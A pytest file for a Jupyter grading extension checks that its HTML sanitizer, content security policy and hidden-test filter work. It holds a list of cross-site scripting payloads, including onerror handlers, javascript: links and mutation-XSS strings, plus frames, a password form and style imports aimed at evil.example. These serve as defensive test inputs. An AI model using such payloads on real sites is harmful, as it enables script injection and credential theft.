"""What formgrader and feedback may show: nothing that runs, loads or imitates the page."""

import re

import pytest
from atelier_nbgrader.config import set_showing
from atelier_nbgrader.feedback_pages import POLICY, protect_page
from atelier_nbgrader.html_cleaning import CLASSES, TAGS, clean_html
from atelier_nbgrader.preprocessors.hide_tests import HideTests
from atelier_nbgrader.preprocessors.sanitize import clean_cell, clean_data, render_markdown
from atelier_nbgrader.server.formgrader_guard import make_policy
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from traitlets.config import Config

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def check_harmless(html: str) -> None:
    """Nothing but known tags, no handler, only links to other sites and pictures inside the page."""
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        assert element.name in TAGS, element
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            assert name not in ("id", "name", "srcdoc", "formaction", "xlink:href"), element
            text = " ".join(value) if isinstance(value, list) else value
            if name == "href":
                assert re.match(r"(https?://|mailto:)", text, re.IGNORECASE), element
            elif name == "src":
                assert text.startswith("data:image/"), element
            elif name == "class":
                assert set(text.split()) <= CLASSES
            elif name == "style":
                assert "url" not in text.lower()


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/user/course-x/hub/logout">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<img src="https://evil.example/pixel.png">',
    '<div class="score mark-graded" id="submission_id">x</div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_defused_in_html_and_in_markdown(attack: str) -> None:
    check_harmless(clean_html(attack))
    page = export(new_markdown_cell(attack))
    notebook = BeautifulSoup(page, "html.parser").find("div", class_="text_cell_render")
    assert notebook is not None
    check_harmless(notebook.decode_contents())


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<b>", "</b>", "<table>", "`", "$", "\n\n", "]]>", "<!--", "x"]),
        max_size=6,
    )
)
def test_attacks_in_any_order_are_defused(parts: list[str]) -> None:
    check_harmless(clean_html("".join(parts)))


def export(*cells: object) -> str:
    config = Config()
    set_showing(config)
    exporter = HTMLExporter(config=config, template_name="classic")
    page, _ = exporter.from_notebook_node(new_notebook(cells=list(cells)))
    return str(page)


def test_tables_and_pictures_stay() -> None:
    frame = '<table border="1" class="dataframe"><tr style="text-align: right;"><td>21.5</td></tr></table>'
    cleaned = clean_html(frame)
    assert 'class="dataframe"' in cleaned
    assert "text-align: right" in cleaned
    assert PIXEL in clean_html(f'<img src="data:image/png;base64,{PIXEL}">')


def test_markdown_of_a_student_stays_readable() -> None:
    page = export(
        new_markdown_cell("# Title\n\n> quote\n\n| a |\n|---|\n| 1 |\n\n`x < y` and [site](https://nasa.gov)")
    )
    for shown in ("<h1", "<blockquote>", "<td>1</td>", "x &lt; y", 'href="https://nasa.gov"'):
        assert shown in page


@pytest.mark.parametrize(
    "output",
    [
        new_output("display_data", {"text/html": "<script>window.pwned</script>"}),
        new_output("display_data", {"application/javascript": "window.pwned"}),
        new_output("display_data", {"text/latex": "</div><script>window.pwned</script>"}),
        new_output("display_data", {"text/markdown": "<script>window.pwned</script>"}),
        new_output("display_data", {"image/png": '"><script>window.pwned</script>'}),
        new_output(
            "display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "window.pwned"}}
        ),
        new_output("display_data", {"text/html": "x"}, metadata={"text/html": {"isolated": True}}),
        new_output("stream", name='"><script>window.pwned</script>', text="<script>window.pwned</script>"),
        new_output("error", ename="<script>", evalue="", traceback=["<script>window.pwned</script>"]),
    ],
)
def test_no_output_brings_an_element_of_its_own(output: object) -> None:
    page = BeautifulSoup(export(new_code_cell("1", outputs=[output])), "html.parser")
    body = page.find("div", class_="output_wrapper")
    if body is not None:
        assert body.find(["script", "iframe", "svg", "object", "embed"]) is None
        assert not [
            element for element in body.find_all(True) if any(a.startswith("on") for a in element.attrs)
        ]


def test_svg_is_a_picture() -> None:
    kept = clean_data({"image/svg+xml": "<svg onload='alert(1)'><script>alert(1)</script></svg>"})
    page = export(new_code_cell("1", outputs=[new_output("display_data", kept)]))
    assert 'src="data:image/svg+xml;base64,' in page
    assert "<svg onload" not in page


def test_attributes_made_from_a_notebook_are_checked() -> None:
    cell = new_code_cell("1")
    cell.id = '"><script>alert(1)</script>'
    cell.execution_count = "<script>"
    cell.metadata = {
        "tags": ['"><script>'],
        "nbgrader": {"grade_id": '"><script>', "points": "<script>"},
    }
    cleaned = clean_cell(cell)
    assert "<" not in repr(cleaned.id) + repr(cleaned.metadata) + repr(cleaned.execution_count)


def test_raw_cell_is_shown_as_text() -> None:
    page = export(new_raw_cell("<script>window.pwned</script>", metadata={"raw_mimetype": "text/html"}))
    assert "<script>window.pwned" not in page
    assert "window.pwned" in page


def test_feedback_page_forbids_everything_from_its_first_line() -> None:
    page = protect_page("<!DOCTYPE html><html><head><script>x</script></head></html>")
    assert page.index(POLICY) < page.index("<script>")
    with pytest.raises(ValueError, match="head"):
        protect_page("<p>no page</p>")


def test_policy_allows_exactly_the_scripts_of_the_trusted_page() -> None:
    policy = make_policy('<script>var a = 1;</script><script src="/x.js"></script><i onclick="go();"></i>')
    scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
    assert scripts.count("sha256-") == 2
    assert "'unsafe-inline'" not in scripts
    assert "'unsafe-hashes'" in scripts
    assert "unsafe-hashes" not in make_policy("<script>var a = 1;</script>")


@pytest.mark.parametrize("unit", ["<div>", "<b><i>", '<a b="', "<table>", "<svg>", "<!--"])
def test_elements_without_end_are_not_shown_instead_of_stopping_everybody(unit: str) -> None:
    assert clean_html(unit * 50_000) == "<p>[…]</p>"


def test_a_large_table_and_many_comments_are_shown() -> None:
    table = "<table>" + "<tr><td>1</td><td>2<br></td></tr><!-- row -->" * 1000 + "</table>"
    assert clean_html(table).count("<tr>") == 1000


def test_a_very_long_markdown_cell_is_shown_as_it_was_typed() -> None:
    shown = render_markdown({}, "\\begin{a}<script>" * 20_000)  # type: ignore[arg-type]
    assert shown.startswith("<pre>")
    assert "<script>" not in shown


HIDDEN_CELL = "x = 1\n### BEGIN HIDDEN TESTS\nassert secret_of_the_test(3) == 9\n### END HIDDEN TESTS\ny = 2"


@pytest.mark.parametrize(
    "leak",
    [
        new_output("stream", name="stdout", text="assert secret_of_the_test(3) == 9"),
        new_output("stream", name="stdout", text="\x1b[31massert\x1b[0m   secret_of_the_test( 3 )==9"),
        new_output("execute_result", {"text/plain": "'x = 1\\nassert secret_of_the_test(3) == 9\\n'"}),
        new_output(
            "display_data",
            {"text/html": "<pre>assert secret_of_the_test(3) == 9</pre>"},
        ),
        new_output("error", ename="E", evalue="", traceback=["----> 3 assert secret_of_the_test(3) == 9"]),
        new_output("error", ename="assert secret_of_the_test(3) == 9", evalue="", traceback=[]),
        new_output("display_data", {"text/html": "<b>assert</b> <i>secret_of_the_test</i>(<b>3</b>) == 9"}),
    ],
)
def test_outputs_with_a_line_of_a_hidden_test_are_withheld(leak: object) -> None:
    notebook = new_notebook(cells=[new_code_cell(HIDDEN_CELL), new_code_cell("print()", outputs=[leak])])
    shown, _ = HideTests().preprocess(notebook, {})
    assert "secret_of_the_test" not in str(shown)
    assert shown.cells[0].source == "x = 1\ny = 2"


def test_a_hidden_line_in_two_outputs_is_withheld() -> None:
    halves = [new_output("stream", name="stdout", text="assert secret_of_the"), new_output("stream")]
    halves[1].update(name="stderr", text="_test(3) == 9")
    notebook = new_notebook(cells=[new_code_cell(HIDDEN_CELL), new_code_cell("print()", outputs=halves)])
    shown, _ = HideTests().preprocess(notebook, {})
    assert "secret" not in str(shown.cells[1].outputs)


def test_hidden_test_that_failed_says_only_that() -> None:
    failed = new_output("error", ename="AssertionError", evalue="9 is secret", traceback=["secret"])
    notebook = new_notebook(cells=[new_code_cell(HIDDEN_CELL, outputs=[failed])])
    shown, _ = HideTests().preprocess(notebook, {})
    assert "secret" not in str(shown.cells[0].outputs)
    assert shown.cells[0].outputs[0].output_type == "error"


def test_region_without_an_end_is_hidden_to_the_end() -> None:
    assert HideTests().remove_hidden_lines("a\n### BEGIN HIDDEN TESTS\nsecret") == "a"
